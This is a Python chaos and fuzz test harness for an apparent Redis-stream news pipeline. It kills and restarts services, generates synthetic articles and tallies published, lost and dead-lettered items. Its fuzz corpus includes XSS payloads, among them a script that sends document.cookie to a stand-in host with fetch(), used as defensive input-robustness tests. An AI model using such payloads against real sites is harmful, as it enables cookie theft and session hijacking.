"""Chaos harness: real service processes over a private AOF redis-server, articles and accounting.

A plain module (no fixtures): `tests/chaos/conftest.py` builds clusters from it, the tests drive
them. Everything here is synchronous; the producer runs in a thread so that it keeps pushing
while the test thread kills processes.

Accounting keys every sent article by its `correlation_id`, which ingest carries unchanged from
`articles.inbound` to `articles.published` and into `articles.dlq`.
"""

from __future__ import annotations

import atexit
import contextlib
import json
import os
import random
import threading
import time
import uuid
from collections import Counter
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final, cast

import orjson
import redis

# The process harness is shared with `newsflow bench`; the tests name its parts through this module.
from newsflow.harness import SERVICES as SERVICES
from newsflow.harness import ServiceDied as ServiceDied
from newsflow.harness import ServiceProcess as ServiceProcess
from newsflow.harness import check_alive, service_env, stop_all, wait_groups_idle
from newsflow.harness import group_members as group_members
from newsflow.harness import wait_all_ready as wait_all_ready
from newsflow.redis_server import RedisServer
from shared import streams

# The consumer groups whose backlog must drain before the books are closed.
PIPELINE_GROUPS: Final = (
    (streams.INBOUND, streams.INGEST_GROUP),
    (streams.RAW, streams.ENRICH_GROUP),
    (streams.TAGGED, streams.PUBLISH_GROUP),
)
# Enrich raises on an article whose body holds this (NEWSFLOW_ENRICH_POISON_MARKER).
POISON_MARKER: Final = "NEWSFLOW-CHAOS-POISON-7d1c"
# Enrich exits at once (as if OOM-killed) on an article whose body holds this.
CRASH_MARKER: Final = "NEWSFLOW-CHAOS-CRASH-3f9a"
SOURCE: Final = "chaos"

# Every server a cluster started, stopped at interpreter exit whatever happens to the fixtures (a
# KeyboardInterrupt, a crashed session); the harness does the same for the service processes.
_LIVE_SERVERS: list[RedisServer] = []


def _stop_leftovers() -> None:
    for server in _LIVE_SERVERS:
        with contextlib.suppress(Exception):
            server.stop()


atexit.register(_stop_leftovers)


# --- configuration -------------------------------------------------------------------------------


@dataclass(frozen=True)
class ChaosSettings:
    """What every service of a chaos cluster runs with: quick recovery, few retries, JSON logs."""

    reclaim_idle_ms: int = 1500
    reclaim_interval_s: float = 0.5
    max_deliveries: int = 3
    poll_interval_ms: int = 50
    # On SIGTERM at the end of a test: seconds to finish the batch in hand.
    graceful_timeout_s: float = 5.0
    poison_marker: str = POISON_MARKER
    crash_marker: str = CRASH_MARKER
    log_level: str = "INFO"

    def values(self, service: str) -> dict[str, str]:
        """The settings of `service`, unprefixed (as `harness.service_env` takes them)."""
        values = {
            "reclaim_idle_ms": str(self.reclaim_idle_ms),
            "reclaim_interval_s": str(self.reclaim_interval_s),
            "max_deliveries": str(self.max_deliveries),
            "poll_interval_ms": str(self.poll_interval_ms),
            "graceful_timeout_s": str(self.graceful_timeout_s),
            "log_level": self.log_level,
        }
        if service == "enrich" and self.poison_marker:
            values["poison_marker"] = self.poison_marker
        if service == "enrich" and self.crash_marker:
            values["crash_marker"] = self.crash_marker
        return values

    def env(self, service: str, redis_url: str) -> dict[str, str]:
        """The whole environment; nothing from the caller's may point it at another Redis."""
        return service_env(service, redis_url, self.values(service))


@dataclass
class Cluster:
    """A private redis-server with AOF on and the three services, each a real process."""

    workdir: Path
    appendfsync: str = "always"
    settings: ChaosSettings = field(default_factory=ChaosSettings)
    server: RedisServer = field(init=False)
    services: dict[str, ServiceProcess] = field(init=False, default_factory=dict)
    kills: Counter[str] = field(init=False, default_factory=Counter)
    redis_restarts: int = field(init=False, default=0)

    def __post_init__(self) -> None:
        data_dir = self.workdir / "redis"
        data_dir.mkdir(parents=True, exist_ok=True)
        (self.workdir / "logs").mkdir(exist_ok=True)
        self.server = RedisServer(appendonly=True, appendfsync=self.appendfsync, data_dir=data_dir)

    @property
    def url(self) -> str:
        return self.server.url

    def start(self, ready_timeout_s: float = 90.0) -> dict[str, float]:
        """Start Redis, then all three services at once; seconds each took to become ready."""
        self.server.start()
        _LIVE_SERVERS.append(self.server)
        for name in SERVICES:
            proc = ServiceProcess(name, self.settings.env(name, self.url), self.workdir / "logs")
            self.services[name] = proc.start()
        return wait_all_ready(list(self.services.values()), ready_timeout_s)

    def client(self, **kwargs: Any) -> redis.Redis:
        return redis.Redis.from_url(self.url, socket_timeout=10, socket_connect_timeout=2, **kwargs)

    def kill_and_restart(self, name: str, ready_timeout_s: float = 90.0) -> float:
        """kill -9 one service, start it again at once; seconds until the new one was ready."""
        proc = self.services[name]
        if not proc.alive():
            raise ServiceDied(f"{name} was already dead before the kill:\n{proc.tail()}")
        proc.kill()
        self.kills[name] += 1
        proc.start()
        return proc.wait_ready(ready_timeout_s)

    def restart_redis(self, down_s: float = 0.5) -> float:
        """SIGKILL redis-server, keep it down `down_s`, start it on the same port and data dir.

        Returns the monotonic time of the kill.
        """
        killed_at = time.monotonic()
        self.server.kill()
        if self.server.process is not None and self.server.process.stderr is not None:
            self.server.process.stderr.close()
        time.sleep(down_s)
        self.server.start(timeout_s=30)
        self.redis_restarts += 1
        return killed_at

    def dead_services(self) -> list[str]:
        return [name for name, proc in self.services.items() if not proc.alive()]

    def stop(self) -> dict[str, int | None]:
        """SIGTERM every service (then SIGKILL), stop Redis; the exit codes. Raises on leftovers."""
        codes = dict(zip(self.services, stop_all(list(self.services.values()), 15.0), strict=True))
        self.server.stop()
        with contextlib.suppress(ValueError):
            _LIVE_SERVERS.remove(self.server)
        leftovers = {
            name: members
            for name, proc in self.services.items()
            if proc.pid is not None and (members := group_members(proc.pid))
        }
        if leftovers:
            raise RuntimeError(f"processes left after stopping the cluster: {leftovers}")
        return codes

    def log_tails(self, lines: int = 25) -> str:
        parts = []
        for name, proc in self.services.items():
            state = "alive" if proc.alive() else f"exited {proc.exit_code()}"
            parts.append(
                f"--- {name} ({state}, start #{proc.starts}, {proc.log_path}) ---\n{proc.tail(lines)}"
            )
        parts.append(f"--- redis-server ({self.server.data_dir}) ---\n{self.server.log_tail(lines)}")
        return "\n".join(parts)

    def errors_logged(self) -> list[dict[str, Any]]:
        """Log records at level error or above, from every start of every service."""
        return [
            {"service": name, **record}
            for name, proc in self.services.items()
            for record in proc.log_records()
            if record.get("level") in ("error", "critical", "exception")
        ]


# --- articles ------------------------------------------------------------------------------------

PEOPLE: Final = (
    "Angela Merkel",
    "Emmanuel Macron",
    "Olaf Scholz",
    "Ursula von der Leyen",
    "Pedro Sánchez",
    "Giorgia Meloni",
    "Christine Lagarde",
    "Jens Stoltenberg",
    "Antonio Guterres",
    "Kristalina Georgieva",
    "Justin Trudeau",
    "Narendra Modi",
)
ORGANISATIONS: Final = (
    "the European Commission",
    "the United Nations",
    "NATO",
    "the World Bank",
    "the International Monetary Fund",
    "Siemens",
    "Maersk",
    "the European Central Bank",
    "Greenpeace",
    "the Port of Rotterdam",
)
PLACES: Final = (
    "Lisbon",
    "Rotterdam",
    "Berlin",
    "Madrid",
    "Nairobi",
    "Jakarta",
    "Toronto",
    "Oslo",
    "Brussels",
    "Warsaw",
    "Athens",
    "Santiago",
)
TOPICS: Final = ("shore power", "grain exports", "rail freight", "wind farms", "water rights", "ferry fares")
FILLER: Final = (
    "officials said the plan would be reviewed again before the end of the year",
    "the proposal still needs the approval of several regional governments",
    "critics argued that the timetable was too ambitious for the budget available",
    "the agreement follows months of talks between ministries and industry groups",
    "analysts expect the first results to be visible within two years",
    "local residents were invited to comment on the draft at public meetings",
    "the cost of the programme was not disclosed in the statement",
    "several companies have already signed letters of intent to take part",
)


@dataclass(frozen=True)
class Article:
    """One article as upstream sends it; `correlation_id` is how the books find it again."""

    source_id: str
    correlation_id: str
    title: str
    body: str

    def payload(self) -> bytes:
        return orjson.dumps(
            {"id": self.source_id, "source": SOURCE, "title": self.title, "body": self.body, "language": "en"}
        )

    def fields(self) -> dict[str, str | bytes]:
        return {
            streams.INBOUND_PAYLOAD: self.payload(),
            streams.INBOUND_CONTENT_TYPE: "application/json",
            streams.INBOUND_SOURCE: SOURCE,
            streams.FIELD_CORRELATION_ID: self.correlation_id,
        }


def make_articles(
    count: int,
    rng: random.Random,
    *,
    run: str,
    poison: Iterable[int] = (),
    crash: Iterable[int] = (),
) -> list[Article]:
    """`count` short articles (80–150 words) with a few named entities each, unique ids.

    Articles whose index is in `poison` carry the poison marker in their body, those in `crash`
    the crash marker.
    """
    poisoned = set(poison)
    crashing = set(crash)
    articles = []
    for i in range(count):
        person, org, place = rng.choice(PEOPLE), rng.choice(ORGANISATIONS), rng.choice(PLACES)
        topic = rng.choice(TOPICS)
        target = rng.randint(80, 150)
        sentences = [
            f"{person} met representatives of {org} in {place} on Tuesday to discuss {topic}.",
            f"{org[0].upper()}{org[1:]} said talks with {rng.choice(PLACES)} would continue next month.",
        ]
        while sum(len(s.split()) for s in sentences) < target:
            sentences.append(f"{rng.choice(FILLER).capitalize()}.")
        if i in poisoned:
            sentences.append(f"Marker {POISON_MARKER} ends this article.")
        if i in crashing:
            sentences.append(f"Marker {CRASH_MARKER} ends this article.")
        paragraphs = [" ".join(sentences[j : j + 3]) for j in range(0, len(sentences), 3)]
        articles.append(
            Article(
                source_id=f"{run}-{i:05d}",
                correlation_id=uuid.uuid4().hex,
                title=f"{place}: {person} and {org} on {topic} ({run} #{i})",
                body="\n\n".join(paragraphs),
            )
        )
    return articles


# --- the producer --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Acked:
    """An XADD to `articles.inbound` that Redis answered: upstream was told the article is in."""

    article: Article
    entry_id: str
    acked_at: float  # time.monotonic()
    attempts: int


class Producer:
    """Pushes articles to `articles.inbound` from a thread, retrying through Redis outages.

    An attempt whose reply was lost may still have been written, so a retried article can be in
    the stream twice; ingest must skip the second copy as a duplicate.
    """

    def __init__(self, url: str, articles: Sequence[Article], *, rate_per_s: float | None = None) -> None:
        self.url = url
        self.articles = list(articles)
        self.rate_per_s = rate_per_s
        self.errors = 0
        self._acked: list[Acked] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="chaos-producer", daemon=True)
        self.failure: BaseException | None = None

    def start(self) -> Producer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=30)

    def join(self, timeout_s: float) -> None:
        self._thread.join(timeout=timeout_s)
        if self._thread.is_alive():
            raise TimeoutError(f"producer still pushing after {timeout_s} s ({len(self.acked())} acked)")
        if self.failure is not None:
            raise self.failure

    def done(self) -> bool:
        return not self._thread.is_alive()

    def acked(self) -> list[Acked]:
        with self._lock:
            return list(self._acked)

    def _run(self) -> None:
        client = redis.Redis.from_url(self.url, socket_timeout=2, socket_connect_timeout=1)
        began = time.monotonic()
        try:
            for i, article in enumerate(self.articles):
                if self.rate_per_s:
                    delay = began + i / self.rate_per_s - time.monotonic()
                    if delay > 0:
                        time.sleep(delay)
                attempts = 0
                while not self._stop.is_set():
                    attempts += 1
                    try:
                        entry_id = xadd(client, streams.INBOUND, article.fields())
                    except redis.RedisError:
                        self.errors += 1
                        time.sleep(0.1)
                        continue
                    acked = Acked(article, entry_id, time.monotonic(), attempts)
                    with self._lock:
                        self._acked.append(acked)
                    break
                if self._stop.is_set():
                    return
        except BaseException as exc:  # surfaced by join()
            self.failure = exc
        finally:
            client.close()


# --- reading the streams -------------------------------------------------------------------------


StreamEntry = tuple[bytes, dict[bytes, bytes]]


def _text(value: bytes | None) -> str:
    return value.decode("utf-8", "replace") if value is not None else ""


def xadd(client: redis.Redis, stream: str, fields: Mapping[bytes, bytes] | Mapping[str, str | bytes]) -> str:
    """XADD with an auto id; the id Redis gave the entry."""
    return _text(cast(bytes, client.xadd(stream, dict(fields))))  # type: ignore[arg-type]


def read_stream(client: redis.Redis, stream: str, *, chunk: int = 1000) -> list[tuple[str, dict[str, str]]]:
    """Every entry of `stream`, fields decoded as text."""
    entries: list[tuple[str, dict[str, str]]] = []
    start = "-"
    while True:
        batch = cast(list[StreamEntry], client.xrange(stream, min=start, count=chunk))
        for entry_id, raw in batch:
            entries.append((_text(entry_id), {_text(k): _text(v) for k, v in raw.items()}))
        if len(batch) < chunk:
            return entries
        start = f"({entries[-1][0]}"


def wait_settled(
    client: redis.Redis,
    correlation_ids: Iterable[str],
    *,
    timeout_s: float,
    alive: Iterable[ServiceProcess] = (),
) -> set[str]:
    """Until every id is in `articles.published` or `articles.dlq`; the ids still missing.

    Rides out Redis outages; fails fast when a watched service dies.
    """
    wanted = set(correlation_ids)
    cursors: dict[str, str] = {streams.PUBLISHED: "0-0", streams.DLQ: "0-0"}
    deadline = time.monotonic() + timeout_s
    watched = list(alive)
    while wanted and time.monotonic() < deadline:
        check_alive(watched)  # ServiceDied, with the end of its log
        try:
            reply = cast(
                list[tuple[bytes, list[StreamEntry]]],
                client.xread(cursors, count=1000, block=200),  # type: ignore[arg-type]
            )
        except redis.RedisError:
            time.sleep(0.2)
            continue
        for stream_name, entries in reply or []:
            name = _text(stream_name)
            for entry_id, raw in entries:
                cursors[name] = _text(entry_id)
                wanted.discard(_text(raw.get(streams.FIELD_CORRELATION_ID.encode())))
    return wanted


def wait_quiet(client: redis.Redis, *, timeout_s: float = 60.0) -> None:
    """Until every pipeline group has read its whole stream and holds nothing pending."""
    wait_groups_idle(client, PIPELINE_GROUPS, timeout_s=timeout_s)


# --- the books -----------------------------------------------------------------------------------


@dataclass
class Books:
    """What happened to a set of sent articles, from the streams themselves."""

    sent: int
    published: int
    duplicates: int
    lost: int
    dlq: int
    kills: int = 0
    redis_restarts: int = 0
    lost_ids: list[str] = field(default_factory=list)
    duplicate_keys: list[tuple[str, int]] = field(default_factory=list)
    unexpected_versions: list[tuple[str, int]] = field(default_factory=list)
    dead_letters: dict[str, dict[str, str]] = field(default_factory=dict)  # by correlation id
    notes: dict[str, Any] = field(default_factory=dict)

    def figures(self) -> dict[str, int]:
        return {
            "sent": self.sent,
            "published": self.published,
            "duplicates": self.duplicates,
            "lost": self.lost,
            "dlq": self.dlq,
            "kills": self.kills,
            "redis_restarts": self.redis_restarts,
        }

    def __add__(self, other: Books) -> Books:
        return Books(
            sent=self.sent + other.sent,
            published=self.published + other.published,
            duplicates=self.duplicates + other.duplicates,
            lost=self.lost + other.lost,
            dlq=self.dlq + other.dlq,
            kills=self.kills + other.kills,
            redis_restarts=self.redis_restarts + other.redis_restarts,
        )


def table(title: str, books: Books) -> str:
    """A small table of the figures, its last line the same figures as one JSON object."""
    labels = {
        "sent": "articles sent",
        "published": "published",
        "duplicates": "duplicates",
        "lost": "lost",
        "dlq": "in DLQ",
        "kills": "kills survived",
        "redis_restarts": "redis restarts",
    }
    figures = books.figures()
    width = max(len(label) for label in labels.values())
    lines = [f"== {title} ==", *(f"  {labels[key]:<{width}}  {value:>6}" for key, value in figures.items())]
    lines += [f"  {key}: {value}" for key, value in books.notes.items()]
    lines.append(orjson.dumps(figures).decode())
    return "\n".join(lines)


def close_books(
    client: redis.Redis,
    sent: Sequence[Article],
    *,
    expect_dead_letter: Iterable[str] = (),
    cluster: Cluster | None = None,
) -> Books:
    """Count, for the sent articles only, what `articles.published` and `articles.dlq` hold.

    Duplicates: entries beyond the first per (article_id, article_version). Lost: a sent article
    neither published nor, when expected there, dead-lettered.
    """
    wanted = {a.correlation_id for a in sent}
    to_dlq = set(expect_dead_letter)
    published_keys: Counter[tuple[str, int]] = Counter()
    published_cids: set[str] = set()
    versions: list[tuple[str, int]] = []
    for _, fields in read_stream(client, streams.PUBLISHED):
        cid = fields.get(streams.FIELD_CORRELATION_ID, "")
        if cid not in wanted:
            continue
        key = (fields[streams.FIELD_ARTICLE_ID], int(fields[streams.FIELD_ARTICLE_VERSION]))
        published_keys[key] += 1
        published_cids.add(cid)
        if key[1] != 1:
            versions.append(key)
    dead: dict[str, dict[str, str]] = {}
    for _, fields in read_stream(client, streams.DLQ):
        cid = fields.get(streams.FIELD_CORRELATION_ID, "")
        if cid in wanted:
            dead[cid] = fields
    lost = sorted(
        a.source_id
        for a in sent
        if (
            a.correlation_id not in dead
            if a.correlation_id in to_dlq
            else a.correlation_id not in published_cids
        )
    )
    books = Books(
        sent=len(sent),
        published=sum(published_keys.values()),
        duplicates=sum(n - 1 for n in published_keys.values()),
        lost=len(lost),
        dlq=len(dead),
        lost_ids=lost,
        duplicate_keys=sorted(key for key, n in published_keys.items() if n > 1),
        unexpected_versions=versions,
        dead_letters=dead,
    )
    if cluster is not None:
        books.kills = sum(cluster.kills.values())
        books.redis_restarts = cluster.redis_restarts
    return books


def new_seed() -> int:
    """NEWSFLOW_CHAOS_SEED when set (to replay a run), else a fresh one."""
    given = os.environ.get("NEWSFLOW_CHAOS_SEED")
    return int(given) if given else random.SystemRandom().randrange(2**32)


# --- fuzz ----------------------------------------------------------------------------------------

# What a fuzz entry must become: published, skipped by ingest as a duplicate, or dead-lettered
# with this code. None: anything, as long as it is accounted for.
PUBLISHED: Final = "published"
SKIPPED: Final = "skipped"


@dataclass(frozen=True)
class FuzzEntry:
    """One hostile stream entry; the harness adds a unique correlation id when it sends it."""

    name: str
    stream: str
    fields: Mapping[bytes, bytes]
    expect: str | None = None


@dataclass(frozen=True)
class SentFuzz:
    entry: FuzzEntry
    entry_id: str
    correlation_id: str


def send_fuzz(client: redis.Redis, entries: Iterable[FuzzEntry]) -> list[SentFuzz]:
    sent = []
    for entry in entries:
        cid = uuid.uuid4().hex
        fields = {**entry.fields, streams.FIELD_CORRELATION_ID.encode(): cid.encode()}
        sent.append(SentFuzz(entry, xadd(client, entry.stream, fields), cid))
    return sent


def _inbound(
    name: str, payload: bytes | None, content_type: str | bytes | None, expect: str | None = None
) -> FuzzEntry:
    fields: dict[bytes, bytes] = {streams.INBOUND_SOURCE.encode(): b"chaos-fuzz"}
    if payload is not None:
        fields[streams.INBOUND_PAYLOAD.encode()] = payload
    if content_type is not None:
        ct = content_type if isinstance(content_type, bytes) else content_type.encode()
        fields[streams.INBOUND_CONTENT_TYPE.encode()] = ct
    return FuzzEntry(name, streams.INBOUND, fields, expect)


def _article(run: str, key: str, **overrides: Any) -> bytes:
    doc: dict[str, Any] = {
        "id": f"{run}-{key}",
        "source": "chaos-fuzz",
        "title": f"Ferry terminal plan approved in Lisbon ({key})",
        "body": (
            "The harbour authority in Lisbon approved plans for a new ferry terminal on Tuesday.\n\n"
            "Construction is expected to start next spring, officials of the European Commission said."
        ),
    }
    doc.update(overrides)
    return orjson.dumps(doc)


HOSTILE_HTML: Final = b"""<!doctype html><html><head><title>Harbour plan approved</title>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert(1)"><article><h1>Harbour plan approved in Lisbon</h1>
<p>The harbour authority in Lisbon approved plans for a new ferry terminal on Tuesday, officials said.</p>
<p onclick="steal()">Construction is expected <img src=x onerror=alert(1)> to start next spring.</p>
<iframe src="javascript:alert(1)"></iframe><script>alert('again')</script></article></body></html>"""


def inbound_corpus(run: str) -> list[FuzzEntry]:
    """Nasty inbound payloads, each with what it must become where that is known."""
    from tests.utils.bad_inputs import BAD_INPUTS

    json_ct, text_ct, html_ct = "application/json", "text/plain", "text/html"
    corpus = [
        # The table the unit tests feed to parse_payload, now through the stream: same codes.
        _inbound(
            f"bad_input:{bad.name}",
            bad.payload if isinstance(bad.payload, bytes) else bad.payload.encode("utf-8", "surrogatepass"),
            bad.content_type,
            expect=bad.code,
        )
        for bad in BAD_INPUTS
    ]
    corpus += [
        _inbound("huge_text", b"Headline\n\n" + b"word " * 700_000, text_ct, expect="oversize"),
        _inbound("huge_json_string", _article(run, "huge", body="a" * 2_500_000), json_ct, expect="oversize"),
        _inbound("deep_json_array", b"[" * 100_000 + b"]" * 100_000, json_ct, expect="unparseable_json"),
        _inbound("deep_json_object", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, json_ct),
        _inbound("nul_bytes", b"Headline\x00\n\nA body with \x00 NUL bytes \x00 in it.", text_ct, "nul_byte"),
        _inbound(
            "escaped_nul_in_json", _article(run, "nul", body="Body \u0000 with an escaped NUL " * 3), json_ct
        ),
        _inbound(
            "invalid_utf8_text", b"\xff\xfe\xfd Headline\n\nbody \xc3\x28 bytes", text_ct, expect="not_utf8"
        ),
        _inbound(
            "invalid_utf8_json", b'{"title": "\xff\xfe", "body": "\xc3\x28"}', json_ct, expect="not_utf8"
        ),
        _inbound("html_with_scripts", HOSTILE_HTML, html_ct, expect=PUBLISHED),
        _inbound(
            "json_with_script_markup",
            _article(
                run,
                "script",
                title="Lisbon <script>alert(1)</script> ferry plan",
                body="The harbour <script>alert(document.cookie)</script> authority approved plans "
                "&lt;script&gt;alert(2)&lt;/script&gt; for a new ferry terminal "
                "<img src=x onerror=alert(3)>.",
            ),
            json_ct,
            expect=PUBLISHED,
        ),
        _inbound("json_labelled_html", _article(run, "as-html"), html_ct),
        _inbound("html_labelled_json", HOSTILE_HTML, json_ct, expect="unparseable_json"),
        _inbound("json_labelled_png", _article(run, "png"), "image/png", expect="unknown_content_type"),
        _inbound("json_array", b'[{"title": "a", "body": "b"}, 1, null]', json_ct, expect="not_an_object"),
        _inbound("json_number", b"42", json_ct, expect="not_an_object"),
        _inbound("json_float", b"-1.5e308", json_ct, expect="not_an_object"),
        _inbound("json_null", b"null", json_ct, expect="not_an_object"),
        _inbound("json_true", b"true", json_ct, expect="not_an_object"),
        _inbound("empty_json", b"", json_ct, expect="empty"),
        _inbound("no_payload_field", None, json_ct, expect="empty"),
        _inbound("no_fields_but_source", None, None, expect="empty"),
        _inbound("content_type_not_utf8", _article(run, "ct"), b"\xff\xfeapplication/json"),
        _inbound("content_type_with_params", _article(run, "params"), "application/json; charset=utf-8"),
        _inbound("bom_json", b"\xef\xbb\xbf" + _article(run, "bom"), json_ct, expect=PUBLISHED),
        _inbound(
            "unicode_zoo",
            _article(
                run,
                "zoo",
                title="\u202eLisbon\u202c ferry \u200b\u200d plan 🚢 — «approved»",
                body="Ministers in Lisbon 🇵🇹 approved the ferry plan. \u0301\u0301 مرحبا بالعالم "
                "Zalgo t̷̢̛e̸x̴t̵ and \ufeff BOMs \U0010fffd in the middle of a body.",
            ),
            json_ct,
        ),
        _inbound(
            "title_10k", _article(run, "long-title", title="T" * 10_000), json_ct, expect="title_too_long"
        ),
        _inbound(
            "withdraw_unknown", _article(run, "never-sent", action="withdraw"), json_ct, "unknown_article"
        ),
        # One article, then the same again (a duplicate), then a new version, then its withdrawal.
        _inbound("article_v1", _article(run, "versioned"), json_ct, expect=PUBLISHED),
        _inbound("article_v1_again", _article(run, "versioned"), json_ct, expect=SKIPPED),
        _inbound(
            "article_v2",
            _article(run, "versioned", body="A corrected body for the ferry terminal article in Lisbon."),
            json_ct,
            expect=PUBLISHED,
        ),
        _inbound(
            "article_withdrawn", _article(run, "versioned", action="withdraw"), json_ct, expect=PUBLISHED
        ),
        FuzzEntry(
            "binary_field_names",
            streams.INBOUND,
            {
                b"\xff\x00field": b"\x00\xff",
                streams.INBOUND_PAYLOAD.encode(): _article(run, "binary-names"),
                streams.INBOUND_CONTENT_TYPE.encode(): b"application/json",
            },
            expect=PUBLISHED,
        ),
        FuzzEntry(
            "source_not_utf8",
            streams.INBOUND,
            {
                streams.INBOUND_SOURCE.encode(): b"\xc3\x28\xff",
                streams.INBOUND_PAYLOAD.encode(): _article(run, "bad-source"),
            },
        ),
    ]
    return corpus


def _fake_raw_article(key: str) -> Any:
    from datetime import UTC, datetime

    from shared.events import RawArticle

    return RawArticle(
        article_id=f"fuzz-{key}",
        version=1,
        content_hash="0" * 64,
        source="chaos-fuzz",
        title="A raw article where it does not belong",
        body="This event is valid on articles.raw and nowhere else.",
        received_at=datetime.now(UTC),
    )


def malformed_event_corpus(stream: str) -> list[FuzzEntry]:
    """Entries a consuming service must reject as invalid events (missing, broken, wrong schema)."""
    from shared import wire
    from shared.events import EventType, RawEvent, TaggedArticle, TaggedEvent

    raw_event = RawEvent(
        event_type=EventType.RAW,
        article_id="fuzz-raw",
        article_version=1,
        correlation_id="ignored",
        data=_fake_raw_article("raw"),
    )
    tagged_event = TaggedEvent(
        event_type=EventType.TAGGED,
        article_id="fuzz-tagged",
        article_version=1,
        correlation_id="ignored",
        data=TaggedArticle(article=_fake_raw_article("tagged"), tagger="none"),
    )
    # An event that is valid, but for another stream than this one.
    wrong = wire.encode(tagged_event if stream == streams.RAW else raw_event)
    wrong.pop(streams.FIELD_CORRELATION_ID)

    def event(value: bytes) -> dict[bytes, bytes]:
        return {b"event": value, b"event_type": b"article.raw", b"article_id": b"x"}

    cases: list[tuple[str, dict[bytes, bytes]]] = [
        ("missing_event_field", {b"event_type": b"article.raw", b"article_id": b"x"}),
        ("event_not_json", event(b"{not json at all")),
        ("event_not_utf8", event(b'\xff\xfe{"event_type": "article.raw"}')),
        ("event_empty", event(b"")),
        ("event_json_array", event(b"[1, 2, 3]")),
        ("event_json_number", event(b"42")),
        ("event_json_null", event(b"null")),
        ("event_wrong_schema", event(b'{"event_type": "article.raw", "data": {"title": 5}}')),
        ("event_deeply_nested", event(b"[" * 100_000 + b"]" * 100_000)),
        ("event_huge_string", event(b'"' + b"a" * 3_000_000 + b'"')),
        ("event_with_nul", event(b'{"event_type": "article.raw\x00"}')),
        ("event_for_another_stream", {k.encode(): v.encode() for k, v in wrong.items()}),
    ]
    return [FuzzEntry(f"{stream}:{name}", stream, fields, expect="invalid_event") for name, fields in cases]


def _json_bytes(value: Any) -> bytes:
    # The standard library, not orjson: it writes integers past 64 bits, a fine hostile input too.
    return json.dumps(value).encode()


def inbound_fuzz_strategy() -> Any:
    """Hypothesis: random bytes, text, JSON and article-shaped JSON, with random content types."""
    from hypothesis import strategies as st

    json_values = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=50),
        lambda children: (
            st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=10), children, max_size=5)
        ),
        max_leaves=25,
    )
    text_or_any = st.one_of(st.text(max_size=300), json_values)
    articles = st.fixed_dictionaries(
        {"title": text_or_any, "body": st.one_of(st.text(min_size=0, max_size=800), json_values)},
        optional={
            "id": st.one_of(st.text(max_size=30), st.integers()),
            "source": st.text(max_size=20),
            "url": st.one_of(st.text(max_size=60), st.just("https://news.example/a?utm_source=x#frag")),
            "published_at": st.one_of(st.text(max_size=30), st.datetimes().map(lambda d: d.isoformat())),
            "language": st.text(max_size=6),
            "authors": st.lists(st.text(max_size=20), max_size=4),
            "subjects": st.lists(st.text(max_size=20), max_size=4),
            "related": st.lists(
                st.fixed_dictionaries(
                    {"title": st.text(max_size=30)}, optional={"url": st.text(max_size=40)}
                ),
                max_size=3,
            ),
            "action": st.sampled_from(["publish", "withdraw", "delete"]),
            "image_caption": st.text(max_size=60),
            "unexpected": json_values,
        },
    )
    # Valid on the surface, random inside: these get past ingest, so NER and ninjs see them too.
    words = st.one_of(
        st.sampled_from([*PLACES, *PEOPLE, "the", "said", "on", "Tuesday"]), st.text(min_size=1)
    )
    plausible = st.fixed_dictionaries(
        {
            "title": st.lists(words, min_size=1, max_size=8).map(" ".join),
            "body": st.lists(words, min_size=8, max_size=120).map(" ".join),
        },
        optional={"id": st.text(max_size=30), "source": st.text(max_size=10), "authors": st.lists(words)},
    )
    payloads = st.one_of(
        st.binary(max_size=2_000),
        st.text(max_size=2_000).map(str.encode),
        json_values.map(_json_bytes),
        articles.map(_json_bytes),
        st.tuples(articles.map(_json_bytes), st.integers(min_value=0, max_value=200)).map(
            lambda pair: pair[0][: pair[1]]  # truncated JSON
        ),
        st.tuples(st.text(max_size=80), st.text(max_size=600)).map(
            lambda pair: (
                f"<html><head><title>{pair[0]}</title><script>alert(1)</script></head>"
                f"<body><p>{pair[1]}</p></body></html>"
            ).encode()
        ),
        st.tuples(st.text(max_size=80), st.text(max_size=600)).map(
            lambda pair: f"{pair[0]}\n\n{pair[1]}".encode()  # the seed's plain-text layout
        ),
    )
    content_types = st.one_of(
        st.none(),
        st.sampled_from(["application/json", "text/plain", "text/html", "image/png", "", "application/xml"]),
        st.text(max_size=40),
        st.binary(max_size=20),
    )
    sources = st.one_of(st.none(), st.text(max_size=30), st.binary(max_size=30))

    def entry(
        payload: bytes | None, content_type: str | bytes | None, source: str | bytes | None
    ) -> FuzzEntry:
        fields: dict[bytes, bytes] = {}
        if payload is not None:
            fields[streams.INBOUND_PAYLOAD.encode()] = payload
        if content_type is not None:
            fields[streams.INBOUND_CONTENT_TYPE.encode()] = (
                content_type if isinstance(content_type, bytes) else content_type.encode()
            )
        if source is not None:
            fields[streams.INBOUND_SOURCE.encode()] = source if isinstance(source, bytes) else source.encode()
        return FuzzEntry("hypothesis:inbound", streams.INBOUND, fields)

    json_types = st.sampled_from([None, "application/json", "application/json; charset=utf-8"])
    return st.one_of(
        st.builds(entry, plausible.map(_json_bytes), json_types, sources),
        st.builds(entry, st.one_of(st.none(), payloads), content_types, sources),
    )


def malformed_event_strategy(stream: str) -> Any:
    """Hypothesis: entries for a consumer's input stream with random fields, JSON or bytes as `event`."""
    from hypothesis import strategies as st

    names = st.one_of(
        st.sampled_from([b"event", b"event_type", b"article_id", b"article_version", b"schema_version"]),
        st.binary(min_size=1, max_size=12),
    )
    events = st.one_of(
        st.binary(max_size=500),
        st.dictionaries(st.text(max_size=12), st.text(max_size=30), max_size=6).map(_json_bytes),
        st.fixed_dictionaries(
            {
                "event_type": st.sampled_from(["article.raw", "article.tagged", "article.published", "x"]),
                "article_id": st.text(max_size=10),
                "article_version": st.integers(),
                "correlation_id": st.text(max_size=10),
                "data": st.dictionaries(st.text(max_size=10), st.text(max_size=10), max_size=4),
            }
        ).map(_json_bytes),
    )

    def entry(fields: dict[bytes, bytes], event: bytes | None) -> FuzzEntry:
        fields = {k: v for k, v in fields.items() if k != streams.FIELD_CORRELATION_ID.encode()}
        if event is not None:
            fields[b"event"] = event
        if not fields:
            fields[b"nothing"] = b""
